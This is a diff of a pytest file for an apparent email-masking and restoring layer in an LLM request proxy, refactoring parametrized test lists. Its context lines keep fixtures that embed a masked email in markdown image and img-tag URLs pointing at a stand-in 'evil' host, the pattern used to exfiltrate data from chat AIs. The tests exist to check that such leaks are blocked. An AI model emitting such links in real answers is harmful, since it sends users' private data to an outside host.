@@ -125,20 +125,6 @@ PADDING = "words and " * 400
 ELSEWHERE = [f"![x](<//evil/{PADDING}[EMAIL_1]>)", f'<img src="https://evil/?{PADDING}[EMAIL_1]">']
 ELSEWHERE += ["https://evil/" + "abc/" * 700 + "[EMAIL_1]", *RECORDED["at another host"]]
 HERE = RECORDED["in a path, a share or at the page's own host"]
-HERE = [
-    "//server/share/[EMAIL_1]", "see //server/share/[EMAIL_1] now", r"C:\Users\[EMAIL_1]\x",
-    r"\\server\share\[EMAIL_1]", "/home/[EMAIL_1]/x", "file:///home/[EMAIL_1]",
-    'List<string> p = "//server/share/[EMAIL_1]"', "<b>Path:</b> //server/share/[EMAIL_1]",
-    "[EMAIL_1]: //server/share/[EMAIL_1]", "[x](mailto:[EMAIL_1])",
-    "Put it in a `<style>` block. Then write to [EMAIL_1].", "<style scoped>a{content: 'by [EMAIL_1]'}</style>",
-    '<base href="/"><a href="/users/[EMAIL_1]">x</a>', "The `<base >` tag: [x](./[EMAIL_1].md)",
-    '<base href="https://evil/"><a href="mailto:[EMAIL_1]">', "[x](tel:[EMAIL_1])",
-    '<a href="mailto:[EMAIL_1]?subject=x">', "[x](/users/[EMAIL_1])", "[x](users/[EMAIL_1]#[EMAIL_1])",
-    r"[x](C:\Users\[EMAIL_1])", "[x](file:///home/[EMAIL_1])", '<a href="/users/[EMAIL_1]">',
-    '<a title="Contact: [EMAIL_1]" href="https://ok/">x</a>', "<img src=https://ok/a.png>[EMAIL_1]",
-    '![x](https://ok/a.png "by [EMAIL_1]")', "see https://ok.example/x [EMAIL_1]",
-    '{"url":"https://ok.example","to":"[EMAIL_1]"}', "`https://ok`[EMAIL_1]", "mailto:[EMAIL_1] and so on",
-]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", ELSEWHERE)
@@ -167,13 +153,13 @@ def test_what_has_no_end_is_read_in_work_that_grows_with_its_length(unit: str) -
     assert growth(whole, lambda size: unit * (size // len(unit)) + "[EMAIL_1]", 20_000) < 2.5
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
-        "https://shop.example/?m={}", "https://{}@db.example/x", "//cdn.example/{}.png", "https:shop.example/{}",
-        "https://shop.example/?a=1&m={}", "postgres://{}:5432/x",
-    ],
-)  # fmt: skip
+OWN_ADDRESSES = [
+    "https://shop.example/?m={}", "https://{}@db.example/x", "//cdn.example/{}.png", "https:shop.example/{}",
+    "https://shop.example/?a=1&m={}", "postgres://{}:5432/x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("address", OWN_ADDRESSES)
 def test_an_address_that_the_caller_wrote_is_restored(address: str) -> None:
     own, masked = address.format(MAIL), address.format("[EMAIL_1]")
     restorer = Restorer(prepared(), addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]}))
@@ -212,12 +198,12 @@ def test_the_profile_replaces_in_requests_and_redacts_in_answers() -> None:
     assert actions(Sanitize(profile="reversible"), "responses").action("SECRET") == "redact"
 
 
-@pytest.mark.parametrize(
-    ("body", "wanted"),
-    [
-        ({"response_format": {"type": "json_schema"}}, True), ({"text": {"format": {"type": "json_object"}}}, True),
-        ({"text": {"format": {"type": "text"}}}, False), ({}, False),
-    ],
-)  # fmt: skip
+FORMATS = [
+    ({"response_format": {"type": "json_schema"}}, True), ({"text": {"format": {"type": "json_object"}}}, True),
+    ({"text": {"format": {"type": "text"}}}, False), ({}, False),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("body", "wanted"), FORMATS)
 def test_a_request_says_whether_its_answer_is_json(body: Json, wanted: bool) -> None:
     assert asks_for_json(body) is wanted
